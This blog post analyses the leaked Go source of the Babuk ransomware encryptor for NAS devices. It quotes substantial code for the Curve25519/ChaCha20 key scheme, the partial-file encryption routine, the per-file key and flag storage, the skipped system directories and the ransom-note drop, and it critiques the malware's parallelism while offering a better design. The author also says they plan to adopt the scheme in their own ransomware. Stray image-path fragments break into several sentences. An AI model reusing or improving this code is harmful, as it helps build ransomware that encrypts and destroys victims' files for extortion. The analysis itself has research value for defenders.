Babuk Source Code Leak - Golang Encryptor
2021/09/05 13:37

Someone leaked the Babuk source code and VxUnderground announced and archived it. The Windows and ESXI versions were written in filthy C++, but my surprise when I saw the NAS version was written in Golang! I’ve mirrored the encryptor and decryptor on Github. Since I wrote some simple ransomware in Go over the last few blog posts, I decided to check this leak out and see what the professionals do. This post is an overview of the encryptor.

The Cypto Scheme

Right off the bat, thing that stands out to me is the use of a different cryptography scheme. We see chacha20 and curve25519.

import (
    // ...

ChaCha20 is a stream cipher that is consistently faster than AES. Curve25519 is an elliptic curve (asymmetric) that has been adopted by some major applications.

An additional benefit of Curve25519 is that it is not covered by any patents which is good since the Babuk authors would not want to be sued.

Elliptic curve cryptography utilizes, as the name implies, an elliptic curve. The curve parameters and a base point are predefined or “agreed upon”. You can do an operation on the base point to produce a new point on the curve, this is often referred to as “multiplying” it with itself. If you repeat this, you get another point on the curve. You keep doing this N times and produce a final point on the curve. The final point is your public key, and N is your private key.


seed := make([]byte, 32)
io.ReadFull(rand.Reader, seed)
copy(privateKey[:], seed)

curve25519.ScalarBaseMult(&publicKey, &privateKey)

Hopefully that code makes some sense now. Babuk generates a random private key N, then multiplies the (implicit) base along Curve25519 to produce the public key.So now you have two keypairs, pub_a, prv_a and pub_b, prv_b. If you multiply prv_a * pub_b you get s. If you multiple prv_b * pub_a you get the same s. This allows two parties to compute a shared secret if each party knows their own private key and the other party’s public key. That is what this next line is doing. It takes the private key that was just generated for the file and multiplies it by the embedded public key m_publ in order to produce a shared secret.

Note - m_publ is the hard coded public key embedded at the top of the file.

curve25519.ScalarMult(&shared, &privateKey, &m_publ)

Following this the file is renamed to have a .babyk extension, then opened for reading and writing. The file is stat’ed to get a file size and based on that, later on, the chunk size that is encrypted changes.

Next, it generates the key and nonce for chacha20. With the key and nonce a stream cipher is generated for encrypting file bytes. The believe the usage of the lock here is unnecessary but will go into more details on that in the code review section, as well, I may be missing something that the developers experienced in practice.

var cc20_k = sha256.Sum256([]byte(shared[:]))
var cc20_n = sha256.Sum256([]byte(cc20_k[:]))

stream, err := chacha20.NewUnauthenticatedCipher(cc20_k[:], cc20_n[10:22])
if err != nil {

Now there are two cases based on the file size. Large cipher modefor files larger than 0x1400000 bytes (20 MB). Babuk splits up the file into 0xA00000 byte chunks, however, the buffer only encrypts the first 0x100000 bytes of that. I assume this is for speed, or maybe to give researchers something to notice and blog about. This means only about 1/10th of the file contents will be encrypted. This is enough to destroy the file, but there will still be a lot of content visible if you look at it in a hex editor.

var chunks int64 = file_size / 0xA00000
var buffer = make([]byte, 0x100000)

var i int64
for i = 0; i < chunks; i++ {
    fmt.Printf("Processing chunk %d\\%d (%s)\n", i+1, chunks, path)
    offset = i * 0xA00000
    file.ReadAt(buffer, offset)
    stream.XORKeyStream(buffer, buffer)
    file.WriteAt(buffer, offset)

The small cipher mode does something similar. This is for files smaller than 0x1400000. If it is larger than 0x400000 bytes, it will only encrypt the first 0x400000. Worst case this encrypts the first 20% of the file. Most cases though this will encrypt theentire file.

var size_to_encrypt int64 = 0
if file_size > 0x400000 {
    size_to_encrypt = 0x400000
} else {
    size_to_encrypt = file_size

var buffer = make([]byte, size_to_encrypt)
r, _ := file.ReadAt(buffer, offset)
if int64(r) != size_to_encrypt {
    fmt.Printf("ERROR: %d != %d\n", r, size_to_encrypt)

stream.XORKeyStream(buffer, buffer)
file.WriteAt(buffer, offset)

Finally, the public key and a special value flag are appended to the file. Flag is a unique 6 byte value used by the decryptor to ensure it is operating on a file it is meant to (and not someone else’s Babuk instance).

var flag [6]byte
flag[0] = 0xAB
flag[1] = 0xBC
flag[2] = 0xCD
flag[3] = 0xDE
flag[4] = 0xEF
flag[5] = 0xF0

// ...
file.WriteAt([]byte(publicKey[:]), file_size)
file.WriteAt([]byte(flag[:]), file_size+32)

I do like the method of storing all this data in the file, as well as using the special extension to not reencrypt files. If your first run fails, you can pick up where you left off and not double encrypt anything. Storing the key in the file is a benefit of having a fixed size key, and the ECC shared secret derivation is really elegant.One downside to this scheme is that each install requires a unique m_publ, as m_priv is provided in the decryptor. Having a single server key allows a server to operate a bit more like an automated SaaS. That said, customizing a build that could bring in hundreds to millions of dollars is not so much work, especially for a tailored enterprise breach. Still, you could automate a lot of this infrastructure with some templating.

Filepath Walk

In main() we see a more fleshed out filepath.Walk() than what we had in our proof of concept.

As seen above, Babuk uses an extension to know whether a file has been encrypted. So when visiting files anything with the .babyk extensionis skipped. They encrypt files in parallel, kicking off an encrypt_file() based on the number runtime.GOMAXPROCS(0) * 2. We will take a closer look at this in the next section.

if strings.Contains(info.Name(), ".babyk") == false
    && info.Name() != "README_babyk.txt" {
    fmt.Printf("Pushing to queue: %s\n", path)

    if queue_counter >= queue_max {
        queue_counter = 0
    go encrypt_file(&wg, path)
    queue_counter += 1

In the case of a directory we see a nice long list blacklisted dirs. Most of these contain system critical files that, if encrypted, would render the operating system unusable. In the case that a directory is not skipped, a README file is output.

if strings.Contains(info.Name(), "/proc") ||
    strings.Contains(path, "/boot") ||
    strings.Contains(path, "/sys") ||
    strings.Contains(path, "/run") ||
    strings.Contains(path, "/dev") ||
    strings.Contains(path, "/etc") ||
    strings.Contains(path, "/home/httpd") ||
    strings.Contains(path, ".system/thumbnail") ||
    strings.Contains(path, ".system/opt") ||
    strings.Contains(path, ".config") ||
    strings.Contains(path, ".qpkg") ||
    strings.Contains(path, "/mnt/ext/opt") {
    return filepath.SkipDir

ioutil.WriteFile(path+"/README_babyk.txt", note, 0777)

Code Review

As I mentioned above, I think the use of the lock in encrypt_file() is incorrect.

var cc20_k = sha256.Sum256([]byte(shared[:]))
var cc20_n =sha256.Sum256([]byte(cc20_k[:]))

The variable shared is a function scope variable, so there should not be any thread contention there, as well cc20_k is scoped immediately prior. The thought is maybe Sum256() is not thread safe but looking at the source code it seems to be as the digest d in that function is local to the function, so there is not some package state code.

If the author or anyone else can explain this usage, please reach out @TACIXAT on Twitter.

Let’s also take a look at the WaitGroup. A wait group is used as sentinel. Generally, when a worker is started, you add 1 to the wait group, then when they finish they mark it as done which decrements one. The parent process then can block on the wait group until all workers are finished.

func encrypt_file(wg *sync.WaitGroup, path string) {
    defer wg.Done()
    // ...

func main() {filepath.Walk( // ...
        // ...
        if info.IsDir() == false {
            // ...
            if queue_counter >= queue_max {
                queue_counter = 0

            go encrypt_file(&wg, path)
            queue_counter += 1
    // ...

This is how it is being used. Then the walker will kick off runtime.GOMAXPROCS(0) * 2 encrypt_file() instances, then block. The issue is it will block until the last one finishes. So if you kick off 8 instances, and 7 of them are only 100 KB in size, and the other is 1 GB, you will be waiting on that one worker. This assumes the bottleneck is CPU and not disk, but it is likely you could be doing more work.

A better pattern would be to initially launch runtime.GOMAXPROCS(0) * 2 workers. Then have the walk function push files to encrypt into a channel. The workers would get jobs out of that channel and encrypt the files. This wouldensure that workers were always utilized and you would never block on a single large file.

A nitpick of the code is that snake_case is used. Generally, Go code is camelCase with an uppercase start indicating an exported or public variable.


There is also this unused function i64tob. This converts an unsigned 64 bit integer to little endian bytes. First, abetter name would be u64tob as it is an unsigned int. Additionally, this can be done with the encoding/binary package, see binary.LittleEndian.PutUint64([]byte, uint64). Lastly, it is unused so just delete it.

func i64tob(val uint64) []byte {
    r := make([]byte, 8)
    for i := uint64(0); i < 8; i++ {
        r[i] = byte((val >> (i * 8)) & 0xff)
    return r


Babuk’s crypto scheme is superior, granted I was doing an intro to cryptography, but ECC is a lot nicer than RSA and since ChaCha20 is faster than AES, I will see how I can incorporate this in the future. It is alsogreat to see the directories that are avoided inpractice on Linux. I was surprised by the partial file encryption, but that willstill render it unusable and probably greatly speed up the time spent on encryption. As well,since I am talking some shit on their parallelization code I will have toshow a better pattern in the future. All told,stoked about this leak.